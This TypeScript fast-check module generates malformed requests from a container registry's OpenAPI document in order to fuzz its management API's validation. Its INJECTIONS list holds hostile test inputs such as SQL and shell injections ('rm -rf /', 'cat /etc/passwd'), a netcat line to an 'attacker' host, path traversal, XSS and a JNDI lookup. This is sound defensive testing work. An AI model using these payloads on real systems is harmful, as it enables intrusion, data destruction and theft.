import fc from 'fast-check';

/**
 * Malformed management requests, generated from the registry's own OpenAPI document: each is
 * malformed by construction and checked against the published schemas and SWR's naming rules, so
 * that nothing that could legitimately succeed is ever produced.
 */

// ---------------------------------------------------------------------------------------------
// The slice of OpenAPI 3.1 / JSON Schema the management document uses.

interface Schema {
  readonly type?: string | string[];
  readonly properties?: Record<string, Schema>;
  readonly required?: string[];
  readonly additionalProperties?: boolean | Schema;
  readonly items?: Schema;
  readonly minItems?: number;
  readonly maxItems?: number;
  readonly minLength?: number;
  readonly maxLength?: number;
  readonly pattern?: string;
  readonly enum?: unknown[];
  readonly const?: unknown;
  readonly anyOf?: Schema[];
  readonly oneOf?: Schema[];
  readonly allOf?: Schema[];
  readonly minimum?: number;
  readonly maximum?: number;
  readonly $ref?: string;
}

interface OpenApiParameter {
  readonly name: string;
  readonly in: string;
  readonly required?: boolean;
  readonly schema?: Schema;
}

interface OpenApiOperation {
  readonly parameters?: OpenApiParameter[];
  readonly requestBody?: { content?: Record<string, { schema?: Schema }> };
  readonly security?: unknown[];
  readonly responses?: Record<string, { content?: Record<string, { schema?: Schema }> }>;
}

interface OpenApiDocument {
  readonly paths: Record<string, Record<string, OpenApiOperation>>;
  readonly components?: { schemas?: Record<string, Schema> };
}

interface QueryParameter {
  readonly name: string;
  readonly required: boolean;
  readonly schema: Schema;
}

export interface ManagementOperation {
  /** `METHOD /path/{param}` as the document names it. */
  readonly key: string;
  readonly method: string;
  readonly template: string;
  readonly pathParams: string[];
  readonly query: QueryParameter[];
  readonly body?: Schema;
}

const METHODS = ['get', 'put', 'post', 'delete', 'patch'];

/** Every authenticated operation that takes some input, from the registry's OpenAPI document. */
export function operationsOf(doc: OpenApiDocument): { fuzzed: ManagementOperation[]; skipped: string[] } {
  const resolve = (schema: Schema | undefined): Schema | undefined => {
    const ref = schema?.$ref?.match(/^#\/components\/schemas\/(.+)$/)?.[1];
    return ref ? doc.components?.schemas?.[ref] : schema;
  };
  const fuzzed: ManagementOperation[] = [];
  const skipped: string[] = [];
  for (const [template, item] of Object.entries(doc.paths)) {
    for (const [method, op] of Object.entries(item)) {
      if (!METHODS.includes(method)) continue;
      const key = `${method.toUpperCase()} ${template}`;
      const params = op.parameters ?? [];
      const operation: ManagementOperation = {
        key,
        method: method.toUpperCase(),
        template,
        pathParams: [...template.matchAll(/\{([^}]+)\}/g)].map((m) => m[1]),
        query: params.filter((p) => p.in === 'query').map((p) => ({ name: p.name, required: p.required === true, schema: resolve(p.schema) ?? {} })),
        body: resolve(op.requestBody?.content?.['application/json']?.schema),
      };
      const anonymous = Array.isArray(op.security) && op.security.length === 0;
      const input = operation.pathParams.length > 0 || operation.query.length > 0 || operation.body !== undefined;
      // The IAM API's users and access keys fail in IAM's envelope, not SWR's: the IAM suite covers them.
      const iam = Object.values(op.responses ?? {}).some((r) => r.content?.['application/json']?.schema?.$ref === '#/components/schemas/IamError');
      if (anonymous || !input || iam) skipped.push(key);
      else fuzzed.push(operation);
    }
  }
  return { fuzzed, skipped };
}

// ---------------------------------------------------------------------------------------------
// "Might this be accepted?" Over-approximates what the registry accepts: whatever it says no to is
// certainly malformed, so a request is only sent when this says no.

const codePoints = (s: string) => [...s].length;

function typeOf(value: unknown): string {
  if (value === null) return 'null';
  if (Array.isArray(value)) return 'array';
  if (typeof value === 'number') return Number.isInteger(value) ? 'integer' : 'number';
  return typeof value;
}

function conforms(schema: Schema, value: unknown): boolean {
  if (schema.$ref) return true;
  if (schema.anyOf && !schema.anyOf.some((s) => conforms(s, value))) return false;
  if (schema.oneOf && !schema.oneOf.some((s) => conforms(s, value))) return false;
  if (schema.allOf && !schema.allOf.every((s) => conforms(s, value))) return false;
  if ('const' in schema && schema.const !== value) return false;
  if (schema.enum && !schema.enum.includes(value)) return false;
  if (schema.type !== undefined) {
    const types = Array.isArray(schema.type) ? schema.type : [schema.type];
    const actual = typeOf(value);
    if (!types.includes(actual) && !(actual === 'integer' && types.includes('number'))) return false;
  }
  if (typeof value === 'string') {
    if (schema.minLength !== undefined && value.length < schema.minLength) return false;
    if (schema.maxLength !== undefined && codePoints(value) > schema.maxLength) return false;
    if (schema.pattern !== undefined) {
      try {
        if (!new RegExp(schema.pattern).test(value)) return false;
      } catch {
        /* an unknown pattern dialect: assume it might match */
      }
    }
  }
  if (typeof value === 'number') {
    if (schema.minimum !== undefined && value < schema.minimum) return false;
    if (schema.maximum !== undefined && value > schema.maximum) return false;
  }
  if (Array.isArray(value)) {
    if (schema.minItems !== undefined && value.length < schema.minItems) return false;
    if (schema.maxItems !== undefined && value.length > schema.maxItems) return false;
    if (schema.items && !value.every((v) => conforms(schema.items as Schema, v))) return false;
    return value.every((v) => namesMightBeValid(v));
  }
  if (typeOf(value) === 'object') {
    const object = value as Record<string, unknown>;
    for (const key of schema.required ?? []) if (!Object.prototype.hasOwnProperty.call(object, key)) return false;
    for (const [key, v] of Object.entries(object)) {
      const property = schema.properties?.[key];
      if (property) {
        if (!conforms(property, v)) return false;
      } else if (schema.additionalProperties === false) {
        return false;
      } else if (typeof schema.additionalProperties === 'object' && !conforms(schema.additionalProperties, v)) {
        return false;
      }
    }
    return namesMightBeValid(object);
  }
  return true;
}

/** Supersets of SWR's naming rules (organization, repository path, tag, account). */
const MAYBE_ORGANIZATION = /^[a-z][a-z0-9._-]{0,63}$/;
const MAYBE_REPOSITORY = /^[a-z0-9][a-z0-9._/-]{0,127}$/;
const MAYBE_TAG = /^[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}$/;
const MAYBE_DIGEST = /^[a-z0-9]+(?:[+._-][a-z0-9]+)*:[a-zA-Z0-9=_-]+$/;
const MAYBE_ACCOUNT = /^[A-Za-z0-9][A-Za-z0-9._-]{0,63}$/;
const MAYBE_ID = /^[A-Za-z0-9._-]{1,128}$/;

/** Body fields that hold names: a name SWR's rules refuse makes the body malformed, whatever the schema says. */
function namesMightBeValid(object: unknown): boolean {
  if (typeOf(object) !== 'object') return true;
  const { namespace, repository } = object as Record<string, unknown>;
  if (typeof namespace === 'string' && !MAYBE_ORGANIZATION.test(namespace)) return false;
  if (typeof repository === 'string' && !MAYBE_REPOSITORY.test(repository)) return false;
  return true;
}

/** What a path parameter holds, loosely: anything else cannot name something that exists. */
function pathValueMightExist(param: string, value: string): boolean {
  if (value === '') return true; // an empty segment routes elsewhere: never sent
  switch (param) {
    case 'namespace':
      return MAYBE_ORGANIZATION.test(value);
    case 'repository':
      return MAYBE_REPOSITORY.test(value.replace(/\$/g, '/'));
    case 'tag':
      return MAYBE_TAG.test(value) || MAYBE_DIGEST.test(value);
    case 'access_domain':
      return MAYBE_ACCOUNT.test(value);
    default:
      return MAYBE_ID.test(value);
  }
}

/** The body as the registry reads it: trimmed, empty meaning none, otherwise JSON. */
function bodyMightBeValid(schema: Schema, text: string): boolean {
  const trimmed = text.trim();
  if (trimmed === '') return conforms(schema, {});
  let value: unknown;
  try {
    value = JSON.parse(trimmed);
  } catch {
    return false;
  }
  return conforms(schema, value ?? {});
}

/** The query as the registry reads it: no repeats, `filter=k::v|k::v` replacing every other parameter, nothing unknown. */
function queryMightBeValid(op: ManagementOperation, pairs: Array<[string, string]>): boolean {
  const keys = pairs.map(([k]) => k);
  if (new Set(keys).size !== keys.length) return false;
  let query = new Map(pairs);
  const filter = query.get('filter');
  if (filter !== undefined) {
    query = new Map();
    for (const part of filter.split('|')) {
      const at = part.indexOf('::');
      if (at <= 0) return false;
      const key = part.slice(0, at);
      if (query.has(key)) return false;
      query.set(key, part.slice(at + 2));
    }
  }
  for (const p of op.query) if (p.required && !query.has(p.name)) return false;
  for (const [key, value] of query) {
    const declared = op.query.find((p) => p.name === key);
    if (!declared || !conforms(declared.schema, value)) return false;
    // Every page size the registry offers is 1..1000, whatever the pattern allows.
    if (key === 'limit' && /^\d+$/.test(value) && (Number(value) < 1 || Number(value) > 1000)) return false;
  }
  return true;
}

// ---------------------------------------------------------------------------------------------
// Arbitraries.

const INJECTIONS = [
  "' OR 1=1 --",
  '"; DROP TABLE x; --',
  "Robert'); DROP TABLE repositories;--",
  '$(rm -rf /)',
  '`id`',
  '; cat /etc/passwd',
  '| nc attacker 4444',
  '%00',
  '%2e%2e%2f',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '<script>alert(1)</script>',
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '*',
  '%',
  '_',
  '\\',
];
const ODD_UNICODE = [
  '\u0000',
  'a\u0000b',
  '\u202Eevil\u202C',
  '\u200F\u200Ertl',
  '\uFEFFbom',
  '\u200Bzero-width',
  '🐳',
  '👩‍👩‍👧‍👦',
  'ｆｕｌｌｗｉｄｔｈ',
  'İstanbul',
  'straße',
  'e\u0301',
  'a\u00A0b',
  '\t\n\r',
  ' ',
  '한국어',
  'مرحبا',
  '\u0085',
];
const HUGE = 100_000;

const oddString = fc.oneof(
  fc.constantFrom(...INJECTIONS, ...ODD_UNICODE),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 24 }),
  fc.tuple(fc.constantFrom(...INJECTIONS), fc.constantFrom(...ODD_UNICODE)).map(([a, b]) => a + b),
);
const hugeString = fc.oneof(
  fc.constantFrom('a'.repeat(HUGE), 'A'.repeat(HUGE), '🐳'.repeat(HUGE / 4), '\u0000'.repeat(HUGE / 10)),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 8 }).map((s) => s.repeat(Math.ceil(HUGE / s.length)).slice(0, HUGE)),
);
/** Names SWR refuses for organizations, repositories and tags. */
const badName = fc.oneof(
  oddString,
  fc.constantFrom('..', '.', '-lead', 'trail-', 'a..b', 'a__-b', 'a//b', '/abs', 'x'.repeat(300), 'a$b', '$', 'UPPER', 'MiXeD-Case', '1starts-with-digit'),
  fc.string({ unit: fc.constantFrom(...'ABCDEFXYZ'), minLength: 1, maxLength: 12 }),
);
const wrongType = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true }),
  fc.boolean(),
  fc.constant(null),
  fc.constantFrom('true', 'false', '1', '0', 'yes', ''),
  fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }),
  fc.constant({ $gt: '' }),
);
const unknownKey = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'prototype', 'admin', 'id', 'domain_id', 'creator_name', 'Namespace', 'is_public ', 'isPublic', 'extra'),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 12 }),
);

/** Something the schema would accept, to corrupt: every field set, to a simple value of its type. */
function plausible(schema: Schema, field = ''): unknown {
  if ('const' in schema) return schema.const;
  if (schema.enum?.length) return schema.enum[0];
  const alternatives = schema.anyOf ?? schema.oneOf;
  if (alternatives?.length) return plausible(alternatives[0], field);
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  switch (type) {
    case 'boolean':
      return false;
    case 'number':
    case 'integer':
      return schema.minimum ?? 1;
    case 'array':
      return [plausible(schema.items ?? {}, field)];
    case 'object': {
      const object: Record<string, unknown> = {};
      for (const [key, property] of Object.entries(schema.properties ?? {})) object[key] = plausible(property, key);
      return object;
    }
    default:
      if (schema.pattern?.includes('\\d')) return '1';
      return field === 'namespace' || field === 'repository' ? 'fuzz-name' : 'fuzz';
  }
}

/** An own, enumerable property even for `__proto__`, so that JSON.stringify sends it. */
function withField(object: Record<string, unknown>, key: string, value: unknown): Record<string, unknown> {
  const copy = { ...object };
  Object.defineProperty(copy, key, { value, enumerable: true, writable: true, configurable: true });
  return copy;
}

type Corruption = (value: unknown) => fc.Arbitrary<unknown>;

/** The objects a body holds: itself, or the items of an array body. */
function corruptObjects(value: unknown, corrupt: (object: Record<string, unknown>, schemaKeys: string[]) => fc.Arbitrary<Record<string, unknown>>, schema: Schema): fc.Arbitrary<unknown> {
  if (Array.isArray(value)) {
    if (value.length === 0) return fc.constant(value);
    const items = schema.items ?? {};
    return fc.nat({ max: value.length - 1 }).chain((i) => corruptObjects(value[i], corrupt, items).map((item) => value.map((v, j) => (j === i ? item : v))));
  }
  if (typeOf(value) !== 'object') return fc.constant(value);
  return corrupt(value as Record<string, unknown>, Object.keys(schema.properties ?? {}));
}

/** Ways to spoil a body that matches its schema. */
function corruptions(schema: Schema): Corruption[] {
  const onField = (make: (key: string) => fc.Arbitrary<unknown>): Corruption => (value) =>
    corruptObjects(
      value,
      (object, keys) => (keys.length === 0 ? fc.constant(object) : fc.constantFrom(...keys).chain((key) => make(key).map((v) => withField(object, key, v)))),
      schema,
    );
  return [
    // A field of the wrong type.
    onField(() => wrongType),
    // A name SWR refuses, an injection or odd unicode in a field.
    onField((key) => (key === 'namespace' || key === 'repository' || key.endsWith('tag') ? badName : oddString)),
    // A huge string.
    onField(() => hugeString),
    // A required field left out.
    (value) =>
      corruptObjects(
        value,
        (object) => {
          const keys = Object.keys(object);
          return keys.length === 0 ? fc.constant(object) : fc.constantFrom(...keys).map((drop) => Object.fromEntries(Object.entries(object).filter(([k]) => k !== drop)));
        },
        schema,
      ),
    // A field the schema does not know.
    (value) => corruptObjects(value, (object, keys) => fc.tuple(unknownKey.filter((k) => !keys.includes(k)), fc.jsonValue({ maxDepth: 2 })).map(([k, v]) => withField(object, k, v)), schema),
    // An array body empty, or one item too long.
    (value) => (Array.isArray(value) ? fc.constantFrom([], Array.from({ length: (schema.maxItems ?? 100) + 1 }, () => plausible(schema.items ?? {}))) : fc.constant(value)),
    // The body wrapped, or the wrong kind of JSON altogether.
    (value) => fc.constantFrom([value], { body: value }, { data: value }, JSON.stringify(value)),
  ];
}

interface BodyCase {
  readonly text: string;
  readonly contentType: string;
}

const NON_JSON = [
  '{not json',
  '{"namespace":',
  '{"a":1}}',
  '[1,2,',
  "{'namespace':'x'}",
  '{namespace: "x"}',
  'NaN',
  'undefined',
  'Infinity',
  '{"a":1,}',
  '\u0000',
  '<xml/>',
  'namespace=x&repository=y',
  '--boundary\r\nContent-Disposition: form-data; name="x"\r\n\r\ny\r\n--boundary--',
  '\uFEFF{"a"',
];

/** Malformed bodies for a schema, each checked to be one the registry must refuse. */
function malformedBody(schema: Schema): fc.Arbitrary<BodyCase> {
  const json = (contentType: fc.Arbitrary<string>) => (value: fc.Arbitrary<unknown>) => fc.tuple(value, contentType).map(([v, contentType]) => ({ text: JSON.stringify(v) ?? 'null', contentType }));
  const asJson = json(fc.constantFrom('application/json', 'application/json; charset=utf-8'));
  const base = plausible(schema);
  const spoiled = fc
    .array(fc.constantFrom(...corruptions(schema)), { minLength: 1, maxLength: 3 })
    .chain((steps) => steps.reduce<fc.Arbitrary<unknown>>((acc, step) => acc.chain(step), fc.constant(base)));
  const cases = fc.oneof(
    { weight: 4, arbitrary: asJson(spoiled) },
    { weight: 2, arbitrary: asJson(fc.jsonValue({ maxDepth: 3 })) },
    {
      weight: 2,
      arbitrary: fc.tuple(
        fc.oneof(
          fc.constantFrom(...NON_JSON),
          fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 }),
          fc.jsonValue({ maxDepth: 2 }).map((v) => `${JSON.stringify(v)}${JSON.stringify(v)}`),
          fc.constantFrom(...NON_JSON).map((s) => s + ' '.repeat(HUGE)),
        ),
        fc.constantFrom('application/json', 'application/json', 'text/plain', 'application/x-www-form-urlencoded'),
      ).map(([text, contentType]) => ({ text, contentType })),
    },
  );
  return cases.filter((c) => !bodyMightBeValid(schema, c.text));
}

/** Values a query parameter must refuse, where its schema says what it accepts. */
function badQueryValue(param: QueryParameter): fc.Arbitrary<string> {
  const schema = param.schema;
  const candidates: fc.Arbitrary<string>[] = [oddString];
  if (schema.enum) candidates.push(fc.constantFrom('maybe', 'sideways', 'TRUE', 'False', '1', '0', 'yes', '', ' asc', 'desc ', 'null'));
  if (schema.pattern) candidates.push(fc.constantFrom('abc', '-1', '1.5', '1e3', '0x10', ' 1', '+1', '99999999999', '', '1,2', '１'));
  if (param.name === 'limit') candidates.push(fc.constantFrom('0', '100000', '1001', '-1'));
  if (schema.maxLength !== undefined) candidates.push(fc.integer({ min: schema.maxLength + 1, max: 500 }).map((n) => 'x'.repeat(n)));
  return fc.oneof(...candidates).filter((v) => !conforms(schema, v) || (param.name === 'limit' && /^\d+$/.test(v) && (Number(v) < 1 || Number(v) > 1000)));
}

/** A value the parameter accepts, to surround the malformed part with. */
function goodQueryValue(param: QueryParameter): fc.Arbitrary<string> {
  const schema = param.schema;
  if (schema.enum?.length) return fc.constantFrom(...(schema.enum as string[]));
  if (schema.pattern?.includes('\\d')) return fc.integer({ min: 1, max: 50 }).map(String);
  return fc.constantFrom('fuzz', 'x', 'fuzz-fixture');
}

type Query = Array<[string, string]>;

/** Some of the declared parameters (the required ones always), with values they accept. */
function plausibleQuery(op: ManagementOperation): fc.Arbitrary<Query> {
  const params = op.query.filter((p) => p.name !== 'filter');
  if (params.length === 0) return fc.constant([]);
  return fc
    .tuple(fc.subarray(params), ...params.map(goodQueryValue))
    .map(([chosen, ...values]) => params.flatMap((p, i) => (p.required || chosen.includes(p) ? [[p.name, values[i]] as [string, string]] : [])));
}

/** A query the registry must refuse: unknown, repeated, ill-typed or missing parameters, or a broken filter. */
function malformedQuery(op: ManagementOperation): fc.Arbitrary<Query> {
  const declared = op.query.map((p) => p.name);
  const spoil: fc.Arbitrary<(q: Query) => Query>[] = [
    // An unknown parameter.
    fc.tuple(fc.oneof(fc.constantFrom('bogus', 'LIMIT', 'Limit', 'limit ', 'page', 'sort', 'admin', '__proto__', 'constructor', 'limit[]', 'offset[0]'), fc.string({ unit: 'grapheme', minLength: 1, maxLength: 12 })), oddString)
      .filter(([k]) => !declared.includes(k) && k !== 'filter')
      .map(([k, v]) => (q: Query) => [...q, [k, v]]),
    // A broken filter.
    fc
      .oneof(
        fc.constantFrom('nokey', '::x', 'a::1|a::2', '', '|', '::', 'limit', 'limit:5', 'limit::abc', 'limit::-1', 'bogus::1', 'filter::x', 'limit::1|', '|limit::1', 'limit::1||offset::0'),
        fc.tuple(fc.constantFrom(...declared), fc.constantFrom(...declared)).map(([a, b]) => `${a}::1|${b}::2|${a}::3`),
        fc.array(fc.tuple(fc.oneof(oddString, fc.constantFrom(...declared)), oddString), { minLength: 1, maxLength: 3 }).map((pairs) => pairs.map(([k, v]) => `${k}::${v}`).join('|')),
      )
      .map((filter) => (q: Query) => [...q, ['filter', filter]]),
  ];
  const constrained = op.query.filter((p) => p.schema.enum || p.schema.pattern || p.schema.maxLength !== undefined);
  if (constrained.length > 0) {
    // A declared parameter with a value of the wrong kind (possibly in the filter form).
    spoil.push(
      fc
        .constantFrom(...constrained)
        .chain((p) => fc.tuple(fc.constant(p.name), badQueryValue(p), fc.boolean()))
        .map(([k, v, asFilter]) => (q: Query) => (asFilter ? [...q.filter(([n]) => n !== k), ['filter', `${k}::${v}`]] : [...q.filter(([n]) => n !== k), [k, v]])),
    );
  }
  if (op.query.length > 0) {
    // A parameter given twice.
    spoil.push(fc.tuple(fc.constantFrom(...op.query), fc.nat(3)).map(([p, n]) => (q: Query) => [...q, [p.name, String(n + 1)], [p.name, String(n + 2)]]));
  }
  if (op.query.some((p) => p.required)) {
    // A required parameter left out.
    spoil.push(fc.constant((q: Query) => q.filter(([k]) => !op.query.find((p) => p.name === k)?.required)));
  }
  return fc
    .tuple(plausibleQuery(op), fc.array(fc.oneof(...spoil), { minLength: 1, maxLength: 3 }), fc.boolean())
    .map(([base, steps, shuffle]) => {
      const query = steps.reduce((q, step) => step(q), base);
      return shuffle ? [...query].reverse() : query;
    })
    .filter((q) => !queryMightBeValid(op, q));
}

/**
 * Queries of a read-only list that are well-formed but odd: free-text criteria holding NUL, RTL
 * marks, emoji or injections. Any answer but a server error will do (an empty list, say).
 */
export function oddWellTypedQuery(op: ManagementOperation): fc.Arbitrary<Query> | undefined {
  const free = op.query.filter((p) => p.schema.type === 'string' && !p.schema.enum && !p.schema.pattern);
  if (op.method !== 'GET' || free.length === 0) return undefined;
  const odd = fc.oneof({ weight: 1, arbitrary: fc.constantFrom('\u0000', 'a\u0000b', "fuzz'\u0000--") }, { weight: 2, arbitrary: oddString });
  return fc
    .tuple(
      plausibleQuery(op),
      fc.subarray(free, { minLength: 1 }).chain((params) => fc.tuple(...params.map((p) => odd.filter((v) => conforms(p.schema, v)).map((v): [string, string] => [p.name, v])))),
    )
    .map(([base, oddPairs]) => [...base.filter(([k]) => !oddPairs.some(([n]) => n === k)), ...oddPairs]);
}

/** A path value naming nothing that can exist. */
function badPathValue(param: string): fc.Arbitrary<string> {
  return fc
    .oneof(
      badName,
      fc.constantFrom('..', '.', '...', '..$..', '$', '$$', 'a$$b', '$app', 'app$', 'a$..$b', 'x'.repeat(300), `${'a'.repeat(150)}$${'b'.repeat(150)}`, 'sha256:xyz', 'sha256:'),
      fc.string({ unit: 'grapheme', minLength: 1, maxLength: 30 }),
    )
    .filter((v) => !pathValueMightExist(param, v));
}

/**
 * One path segment, encoded; `.` and `..` as the names they are (`%2E%2E`), never as dot-segments
 * that something normalising the path could resolve to another, existing, resource.
 */
const segment = (value: string) => encodeURIComponent(value).replace(/^\.{1,2}$/, (dots) => '%2E'.repeat(dots.length));

export interface FuzzRequest {
  readonly method: string;
  readonly path: string;
  readonly body?: BodyCase;
  /** What was spoilt, for the failure message. */
  readonly malformed: string;
}

export interface Fixture {
  readonly namespace: string;
  readonly repository: string;
  readonly projectId: string;
}

/** Valid values for path parameters: the fixture, or names that are valid but exist nowhere. */
export function fixtureValue(param: string, fixture: Fixture): string {
  switch (param) {
    case 'namespace':
      return fixture.namespace;
    case 'repository':
      return fixture.repository;
    case 'project_id':
      return fixture.projectId;
    case 'tag':
      return 'fuzz-no-such-tag';
    case 'access_domain':
      return 'fuzznosuchaccount';
    default:
      return 'fuzz-no-such-thing';
  }
}

export function buildPath(op: ManagementOperation, values: Record<string, string>, query: Query): string {
  const path = op.template.replace(/\{([^}]+)\}/g, (_, name: string) => segment(values[name]));
  return query.length === 0 ? path : `${path}?${query.map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`).join('&')}`;
}

/** Malformed requests for one operation: a bad path value, a bad query or a bad body, around the fixture. */
export function malformedRequest(op: ManagementOperation, fixture: Fixture): fc.Arbitrary<FuzzRequest> {
  const valid = Object.fromEntries(op.pathParams.map((p) => [p, fixtureValue(p, fixture)]));
  const body = op.body ? malformedBody(op.body).map((b): BodyCase | undefined => b) : fc.constant(undefined);
  const kinds: fc.Arbitrary<FuzzRequest>[] = [];
  if (op.pathParams.length > 0) {
    // At least one path value that names nothing that can exist (the others the fixture's); a body, if
    // any, malformed too, so that no create is ever sent that could succeed.
    const spoilt = fc.subarray(op.pathParams, { minLength: 1 });
    kinds.push(
      spoilt
        .chain((names) => fc.tuple(fc.constant(names), fc.tuple(...names.map(badPathValue)), plausibleQuery(op), body))
        .map(([names, values, query, b]) => ({
          method: op.method,
          path: buildPath(op, { ...valid, ...Object.fromEntries(names.map((n, i) => [n, values[i]])) }, query),
          body: b,
          malformed: `path ${names.join(', ')}${b ? ' and body' : ''}`,
        })),
    );
  }
  if (op.query.length > 0) {
    kinds.push(malformedQuery(op).map((query) => ({ method: op.method, path: buildPath(op, valid, query), malformed: 'query' })));
  }
  if (op.body) {
    kinds.push(body.map((b) => ({ method: op.method, path: buildPath(op, valid, []), body: b, malformed: 'body' })));
  }
  return fc.oneof(...kinds);
}

